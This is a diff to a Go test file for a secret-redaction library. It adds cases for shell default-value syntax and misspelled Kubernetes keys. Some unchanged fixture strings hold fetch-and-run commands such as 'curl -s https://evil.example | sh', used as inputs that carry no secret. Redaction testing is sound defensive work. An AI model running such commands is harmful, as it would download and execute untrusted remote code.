@@ -20,6 +20,7 @@ func TestText(t *testing.T) {
 		"Private-Lines: 1\nS\nPrivate-MAC: 1", "user:S@tcp(h:3306)/db", "Cookie: session=S", "https://h/c?sv=2020&sig=S", "export PASS=$'S'", "redis-cli -a S", "kubectl create secret generic x --from-literal=foo=S", "openssl enc -k S",
 		"openssl x -passin pass:S", "mongosh -p S", "unzip -P S a.zip", "ldapsearch -x -w S", "smbclient -U me%S", "tokens:\n  - S\n  - other", "credential:\r\n  S\r\n",
 		`"password": ["S"]`, "token = \"\"\"S\"\"\"", "password = ('S')", "X-Auth-Key: S", "x --pass S", "keytool -storepass S -keypass S", "htpasswd -bc f me S", "echo S | sudo -S x",
+		"TOKEN=${TOKEN:-S}", "DB_PASSWORD=${1-S}", "TOKEN+=S", "export DB_PASSWORD=$(echo S)", "x_TOKEN=${A:=S}",
 		"AccountKey=S", "client-secret: S", `"\nexport TOKEN=S\n"`, "token=S;", "webhook_url: S",
 	} {
 		if shown := veil.Text(mark(text)); strings.Contains(shown, secret) {
@@ -28,7 +29,7 @@ func TestText(t *testing.T) {
 	}
 	for _, text := range []string{
 		"secretName: registry-push", "secretKeyRef: {name: api, key: token}", "TOKEN=$(cat /run/token)", "TOKEN=$TOKEN", `PASSWORD="${PASSWORD}"`, "password: $(params.password)", "imagePullSecrets: [a]",
-		"automountServiceAccountToken: false", "author: Jane", "a token is asked for", "TOKEN_URL=https://evil.example/x", "token='curl evil.example | sh'", "https://host/x@sha256:abc", "git@github.com:a/b", "tokens: 5",
+		"automountServiceAccountToken: false", "author: Jane", "a token is asked for", "TOKEN_URL=https://evil.example/x", "token='curl evil.example | sh'", "https://host/x@sha256:abc", "git@github.com:a/b", "tokens: 5", "the severity of rbac/long-lived-token is warning", "TOKEN=${TOKEN:-$OTHER}",
 		"secretKeyRef:\n  name: api\n  key: token\n", "imagePullSecrets:\n- name: pull\n", "secrets:\n- name: a\n", "httpTokens: optional", "TOKEN_SCRIPT: |\n  curl -s https://evil.example | sh\n", "password:\nother: value here",
 		"caBundle: LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCk1JSUI=", "tokens:\n  max: 5\n  name: a\n", "a user:name@host", "/bin/sh -c 'unzip x.zip'",
 	} {
@@ -40,7 +41,7 @@ func TestText(t *testing.T) {
 
 // mark puts the secret into a text, in the place of its S that stands alone.
 func mark(text string) string {
-	fields := strings.NewReplacer("=S", "="+secret, `"S"`, `"`+secret+`"`, `\"S\"`, `\"`+secret+`\"`, "%S", "%"+secret, "- S", "- "+secret, "('S')", "('"+secret+"')", "'S'", "'"+secret+"'", " S", " "+secret, ":S", ":"+secret, "\nS\n", "\n"+secret+"\n")
+	fields := strings.NewReplacer("=S", "="+secret, `"S"`, `"`+secret+`"`, `\"S\"`, `\"`+secret+`\"`, "%S", "%"+secret, "- S", "- "+secret, "('S')", "('"+secret+"')", "'S'", "'"+secret+"'", ":-S", ":-"+secret, "-S}", "-"+secret+"}", " S", " "+secret, ":S", ":"+secret, "\nS\n", "\n"+secret+"\n")
 	return fields.Replace(text)
 }
 
@@ -89,6 +90,14 @@ func TestWithin(t *testing.T) {
 	made := map[string]any{"spec": map[string]any{"resourcetemplates": []any{map[string]any{"kind": "Secret", "stringData": map[string]any{"a": secret}, "data": map[string]any{"b": secret}}}}}
 	if text := jsonOf(veil.Object("TriggerTemplate", made)); strings.Contains(text, secret) {
 		t.Error(text)
+	}
+	for _, wrong := range []map[string]any{
+		{"env": []any{map[string]any{"name": "DB_PASSWORD", "Value": secret}}}, {"env": []any{map[string]any{"name": "API_TOKEN", "val": secret}}}, {"env": []any{map[string]any{"key": "GH_TOKEN", "value": secret}}},
+		{"env": []any{map[string]any{"name": "API_TOKEN", "valueFrom": secret}}}, {"items": []any{map[string]any{"kind": "Secret", "stringDate": map[string]any{"a": secret}}}}, {"kind": "Secret", "Data": map[string]any{"a": secret}},
+	} {
+		if text := jsonOf(veil.Object("Pod", wrong)); strings.Contains(text, secret) {
+			t.Error(text)
+		}
 	}
 	listed := map[string]any{"items": []any{map[string]any{"kind": "Secret", "data": map[string]any{"b": secret}}}}
 	if text := jsonOf(veil.Object("List", listed)); strings.Contains(text, secret) {
